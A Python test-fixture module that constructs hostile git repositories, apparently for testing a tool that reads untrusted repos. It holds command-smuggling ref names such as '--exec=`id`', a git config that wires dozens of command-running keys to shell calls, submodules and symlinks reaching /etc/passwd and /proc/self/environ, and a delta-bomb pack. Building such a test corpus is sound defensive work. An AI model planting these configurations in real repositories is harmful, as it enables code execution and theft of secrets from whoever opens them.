"""Repositories whose git directory, refs or objects are made to deceive git, or to have it run something."""

from __future__ import annotations

import struct
import zlib
from hashlib import sha1

from tests.builders import FIRST_DATE, Repository
from tests.hostile.corpus import SECRET, SECRET_PATH, Ground, imported, planted
from tests.hostile.repositories import PYTHON

CLEAN = b"def run(name):\n    return name\n"
_ESC = b"\x1b]0;owned\x07\x1b[2J\x1b[31m\xe2\x80\xae\r"


def option_refs(ground: Ground) -> None:
    """Branches and tags named like options and commands; HEAD names one of them."""
    repo = ground.repository("option-refs")
    tip = planted(repo, {"app.py": b"# option-refs\n" + PYTHON})
    run = f"$({ground.shell('ref')})".replace("'", "")
    names = ["heads/-oops", f"heads/--upload-pack={run}", "heads/--exec=`id`", f"tags/;{run};", "tags/--output=x"]
    lines = sorted(f"{tip} refs/{name}" for name in names)
    lines.sort(key=lambda line: line.split(" ", 1)[1])
    (repo.git_dir / "packed-refs").write_text(
        "# pack-refs with: peeled fully-peeled sorted\n" + "\n".join(lines) + "\n"
    )
    (repo.git_dir / "HEAD").write_text("ref: refs/heads/-oops\n")
    (repo.git_dir / "refs/heads/main").unlink()


def configuration(ground: Ground) -> None:
    """Everything by which a git configuration, attributes or hooks run commands, read files or go elsewhere."""
    repo = ground.repository("configuration")
    sh, url = ground.shell, ground.url
    attributes = b"* filter=evil diff=evil merge=evil text eol=crlf ident working-tree-encoding=UTF-16\n"
    pointer = b"version https://git-lfs.github.com/spec/v1\noid sha256:%s\nsize 3\n" % (b"ab" * 32)
    planted(
        repo,
        {
            "app.py": b"# configuration $Id$\n" + PYTHON,
            ".gitattributes": attributes,
            ".lfsconfig": f"[lfs]\n\turl = {url}/lfs\n".encode(),
            "model.bin": pointer,
            ".mailmap": b"Evil <evil@example.invalid> Ada <ada@example.invalid>\n",
        },
    )
    config = f"""\
[core]
\trepositoryformatversion = 0
\tbare = false
\tfsmonitor = "{sh("fsmonitor")}"
\tsshCommand = "{sh("ssh")}"
\tpager = "{sh("pager")}"
\teditor = "{sh("editor")}"
\tgitProxy = "{sh("proxy")}"
\taskPass = "{sh("askpass")}"
\tattributesFile = /etc/passwd
\talternateRefsCommand = "{sh("alternate-refs")}"
\tworktree = /etc
[uploadpack]
\tpackObjectsHook = "{sh("pack-objects")}"
\thideRefs = refs/heads
\tallowFilter = true
[transfer]
\thideRefs = refs
[receive]
\tprocReceiveRefs = refs
[include]
\tpath = ../evil.inc
[includeIf "gitdir:**"]
\tpath = ../evil.inc
[filter "evil"]
\tsmudge = "{sh("smudge")}"
\tclean = "{sh("clean")}"
\tprocess = "{sh("process")}"
\trequired = true
[diff]
\texternal = "{sh("external-diff")}"
[diff "evil"]
\tcommand = "{sh("diff")}"
\ttextconv = "{sh("textconv")}"
[merge "evil"]
\tdriver = "{sh("merge")}"
[credential]
\thelper = "!{sh("credential")}"
[http]
\tproxy = {url}
\tsslVerify = false
[url "{url}/"]
\tinsteadOf = file://
[url "ext::{sh("ext")} "]
\tinsteadOf = https://
[protocol "ext"]
\tallow = always
[remote "origin"]
\turl = ext::{sh("origin")}
\tuploadpack = "{sh("uploadpack")}"
\tvcs = evil
[gpg]
\tprogram = "{sh("gpg")}"
[log]
\tshowSignature = true
[alias]
\tupload-pack = "!{sh("alias")}"
\tlog = "!{sh("alias")}"
[pack]
\twindowMemory = 1
[safe]
\tdirectory = *
"""
    (repo.git_dir / "config").write_text(config)
    (repo.git_dir / "evil.inc").write_text(f'[core]\n\tfsmonitor = "{sh("included")}"\n')
    hooks = repo.git_dir / "hooks"
    hooks.mkdir()
    for name in ("post-checkout", "pre-receive", "reference-transaction", "post-upload-pack", "fsmonitor-watchman"):
        (hooks / name).write_text(f"#!/bin/sh\n{sh('hook-' + name)}\n")
        (hooks / name).chmod(0o755)
    (repo.git_dir / "info").mkdir(exist_ok=True)
    (repo.git_dir / "info/attributes").write_bytes(attributes)
    (repo.git_dir / "description").write_bytes(_ESC)


def submodules(ground: Ground) -> None:
    """Submodules that would run commands, read the machine, or be cloned over this repository."""
    repo = ground.repository("submodules")
    run = ground.shell("submodule")
    entries = {
        "cmd": (f"!{run}", "cmd", "./"),
        "../../modules/x": ("checkout", "../..", "file:///etc"),
        "ext": ("checkout", "ext", f"ext::sh -c {run}%"),
        "option": ("checkout", "option", f"--upload-pack={run}"),
        "phone": ("checkout", "phone", f"{ground.url}/x.git"),
        "dotgit": ("checkout", ".git/modules/x", "../configuration"),
    }
    text = "".join(
        f'[submodule "{n}"]\n\tupdate = {u}\n\tpath = {p}\n\turl = {url}\n' for n, (u, p, url) in entries.items()
    )
    first = planted(repo, {"app.py": b"# submodules\n" + PYTHON, ".gitmodules": text.encode()})
    repo.git("read-tree", first)
    for name in ("cmd", "ext", "option", "phone"):
        repo.git("update-index", "--add", "--cacheinfo", f"160000,{first},{name}")
    repo.commit(index=True)


def alternates(ground: Ground) -> None:
    """Its objects lie in another repository of the machine, which a reader would be led into."""
    outside = Repository(ground.org.parent / "outside")
    tip = outside.commit({"private.txt": SECRET + b"# of another\n"})
    repo = ground.repository("alternates")
    (repo.git_dir / "objects/info").mkdir(exist_ok=True)
    text = f"{outside.git_dir / 'objects'}\n../../../outside/.git/objects\n/etc\n"
    (repo.git_dir / "objects/info/alternates").write_text(text)
    (repo.git_dir / "objects/info/http-alternates").write_text(ground.url + "\n")
    (repo.git_dir / "refs/heads/main").write_text(tip + "\n")


def common_dir(ground: Ground) -> None:
    """Says that what matters of it lies in another git directory of the machine."""
    outside = Repository(ground.org.parent / "outside-common")
    outside.commit({"private.txt": SECRET + b"# of a third\n"})
    repo = ground.repository("common-dir")
    repo.commit({"app.py": CLEAN})
    (repo.git_dir / "commondir").write_text(f"{outside.git_dir}\n")


def unknown_extension(ground: Ground) -> None:
    """Written in a format that git does not know: nothing of it can be read."""
    repo = ground.repository("unknown-extension")
    planted(repo, {"app.py": CLEAN})
    with (repo.git_dir / "config").open("a") as f:
        f.write("[core]\n\trepositoryformatversion = 1\n[extensions]\n\tnosuchthing = 1\n")


def replaced(ground: Ground) -> None:
    """The flawed commit, tree and blob have clean stand-ins by replace refs."""
    repo = ground.repository("replaced")
    flawed = planted(repo, {"app.py": b"# replaced\n" + PYTHON})
    clean = repo.commit_tree(repo.tree(("100644", "blob", repo.blob(CLEAN), b"app.py")), branch="clean")
    repo.git("update-ref", "-d", "refs/heads/clean")
    for flaw, stand_in in (
        (flawed, clean),
        (repo.git("rev-parse", f"{flawed}^{{tree}}"), repo.git("rev-parse", f"{clean}^{{tree}}")),
        (repo.git("rev-parse", f"{flawed}:app.py"), repo.blob(CLEAN)),
        (repo.git("rev-parse", f"{flawed}:{SECRET_PATH}"), repo.blob(b"nothing\n")),
    ):
        repo.git("update-ref", f"refs/replace/{flaw}", stand_in)


def grafted(ground: Ground) -> None:
    """The commit with the secret is cut out of the history by a graft."""
    repo = ground.repository("grafted")
    first = repo.commit({"app.py": b"# grafted\n" + PYTHON})
    planted(repo, {})
    last = repo.commit_tree(repo.git("rev-parse", f"{first}^{{tree}}"), repo.git("rev-parse", "main"))
    (repo.git_dir / "info").mkdir(exist_ok=True)
    (repo.git_dir / "info/grafts").write_text(f"{last} {first}\n")


def shallow(ground: Ground) -> None:
    """Calls itself shallow, so that what is before its last commit is not handed over."""
    repo = ground.repository("shallow")
    first = planted(repo, {"app.py": CLEAN})
    last = repo.commit_tree(repo.tree(("100644", "blob", repo.blob(CLEAN), b"app.py")), first)
    (repo.git_dir / "shallow").write_text(last + "\n")


def odd_people(ground: Ground) -> None:
    """Commits with escape sequences in all texts, of the year 30,000 and of before 1970, and with odd headers."""
    repo = ground.repository("odd-people")
    planted(repo, {"app.py": b"# odd-people\n" + PYTHON})
    tree, parent = repo.git("rev-parse", "HEAD^{tree}"), repo.git("rev-parse", "HEAD")
    for when in (b"1000000000000 +0000", b"-5 +0000", b"99999999999999999999 +9999", b"0 -0000", b"x"):
        body = b"tree %s\nparent %s\n" % (tree.encode(), parent.encode())
        body += b"author %s <%s> %s\ncommitter \xff <> %s\n" % (_ESC, _ESC.replace(b"\r", b""), when, when)
        body += b"encoding no-such\ngpgsig -----BEGIN PGP SIGNATURE-----\n x\n\n" + _ESC + b"\ncommit 00\n:100644 x\n"
        parent = repo.git("hash-object", "-t", "commit", "-w", "--literally", "--stdin", stdin=body)
    (repo.git_dir / "refs/heads/main").write_text(parent + "\n")


def links_out(ground: Ground) -> None:
    """Links out of the repository, to devices and the environment, in circles and in chains."""
    repo = ground.repository("links-out")
    targets = {
        "passwd.py": "/etc/passwd", "environ.py": "/proc/self/environ", "zero.py": "/dev/zero", "up.py": "../" * 30,
        "loop-a.py": "loop-b.py", "loop-b.py": "loop-a.py", "self.py": "self.py", "outside.py": "../../outside/x",
    }  # fmt: skip
    targets |= {f"chain-{n}.py": f"chain-{n + 1}.py" for n in range(60)}
    entries = [(b"120000", name.encode(), repo.blob(target.encode())) for name, target in targets.items()]
    entries += [(b"100644", b"app.py", repo.blob(b"# links-out\n" + PYTHON))]
    entries += [(b"100644", b"secret.txt", repo.blob(SECRET))]
    repo.commit_tree(repo.raw_tree(*sorted(entries, key=lambda e: e[1])))


def changing(ground: Ground) -> None:
    """One path is a file, a folder, a link and a submodule by turns; it held the secret as a file and as a folder."""
    repo = ground.repository("changing")
    repo.commit({"thing": SECRET})
    (repo.path / "thing").unlink()
    first = repo.commit({"thing/inner": SECRET + b"\n"})
    (repo.path / "thing/inner").unlink()
    (repo.path / "thing").rmdir()
    (repo.path / "thing").symlink_to("/etc")
    repo.commit({"app.py": b"# changing\n" + PYTHON})
    repo.git("rm", "--quiet", "thing")
    repo.git("update-index", "--add", "--cacheinfo", f"160000,{first},thing")
    repo.commit(index=True)


def inflating_delta(ground: Ground) -> None:
    """A pack of a few kilobytes whose last object is sixteen gigabytes, as a delta of a delta of a delta."""
    repo = ground.repository("inflating-delta")
    base = b"\0" * 65536
    first = _delta(65536, [(0, 65536)] * 64)
    second = _delta(1 << 22, [(0, 1 << 22)] * 16)
    last = _delta(1 << 26, [(n << 22, 1 << 22) for n in range(16)] * 256)
    oids = [_oid(base), _oid(b"\0" * (1 << 22)), _oid(b"\0" * (1 << 26)), "ee" * 20]
    _write_pack(repo, [base, first, second, last], oids)
    repo.commit_tree(_tree_of(repo, oids[3]))


def _tree_of(repo: Repository, huge: str) -> str:
    return repo.raw_tree(
        (b"100644", b"huge.py", huge),
        (b"100644", b"secret.txt", repo.blob(SECRET)),
        (b"100644", b"z.py", repo.blob(CLEAN)),
    )


def _oid(blob: bytes) -> str:
    return sha1(b"blob %d\0" % len(blob) + blob, usedforsecurity=False).hexdigest()


def _varint(number: int) -> bytes:
    out = b""
    while number > 0x7F:
        out, number = out + bytes([number & 0x7F | 0x80]), number >> 7
    return out + bytes([number])


def _delta(source: int, copies: list[tuple[int, int]]) -> bytes:
    """A delta of copies only (gitformat-pack(5)): each names an offset and at most 16 MB."""
    body = _varint(source) + _varint(sum(size for _, size in copies))
    for offset, size in copies:
        size = 0 if size == 0x10000 else size
        body += b"\xff" + struct.pack("<I", offset) + struct.pack("<I", size)[:3]
    return body


def _write_pack(repo: Repository, bodies: list[bytes], oids: list[str]) -> None:
    """A pack of a blob and deltas, each of the one before, with an index that names them as told."""
    pack, places, checks = bytearray(b"PACK" + struct.pack(">II", 2, len(bodies))), [], []
    for n, body in enumerate(bodies):
        places.append(len(pack))
        kind, size = (7 if n else 3), len(body)
        head = [(kind << 4) | (size & 0xF)]
        size >>= 4
        while size:
            head[-1] |= 0x80
            head.append(size & 0x7F)
            size >>= 7
        entry = bytes(head) + (bytes.fromhex(oids[n - 1]) if n else b"") + zlib.compress(body)
        checks.append(zlib.crc32(entry))
        pack += entry
    pack += sha1(pack, usedforsecurity=False).digest()
    ranked = sorted(range(len(oids)), key=lambda n: oids[n])
    names = [bytes.fromhex(oids[n]) for n in ranked]
    index = b"\xfftOc" + struct.pack(">I", 2)
    index += b"".join(struct.pack(">I", sum(1 for name in names if name[0] <= first)) for first in range(256))
    index += b"".join(names) + b"".join(struct.pack(">I", checks[n]) for n in ranked)
    index += b"".join(struct.pack(">I", places[n]) for n in ranked) + bytes(pack[-20:])
    index += sha1(index, usedforsecurity=False).digest()
    place = repo.git_dir / "objects/pack" / f"pack-{sha1(b''.join(names), usedforsecurity=False).hexdigest()}"
    place.parent.mkdir(exist_ok=True)
    place.with_suffix(".pack").write_bytes(pack)
    place.with_suffix(".idx").write_bytes(index)


def malformed(ground: Ground) -> None:
    """Objects that git's own checks refuse: no author, a tree in disorder with names twice, a mode that is none."""
    repo = ground.repository("malformed")
    blob, secret = repo.blob(b"# malformed\n" + PYTHON), repo.blob(SECRET)
    tree = repo.raw_tree(
        (b"100644", b"z.py", blob),
        (b"100644", b"a.txt", secret),
        (b"100644", b"z.py", blob),
        (b"0100644", b"m.py", blob),
    )
    body = f"tree {tree}\n\nno author\n".encode()
    commit = repo.git("hash-object", "-t", "commit", "-w", "--literally", "--stdin", stdin=body)
    (repo.git_dir / "refs/heads/main").write_text(commit + "\n")


def dates_first(ground: Ground) -> None:
    """Children older than their parents, and a secret in the oldest of all: walks that stop by date miss it."""
    stream = []
    for n in range(50):
        person = b"Ada <ada@example.invalid> %d +0000\n" % (FIRST_DATE - n * 86_400)
        stream += [b"commit refs/heads/main\ncommitter " + person + b"data 1\nx\n"]
        content = SECRET if n == 0 else b"%d\n" % n
        stream += [b"M 100644 inline %s\n" % (SECRET_PATH.encode()), b"data %d\n%s\n" % (len(content), content)]
    imported(ground.repository("dates-first"), b"".join(stream))
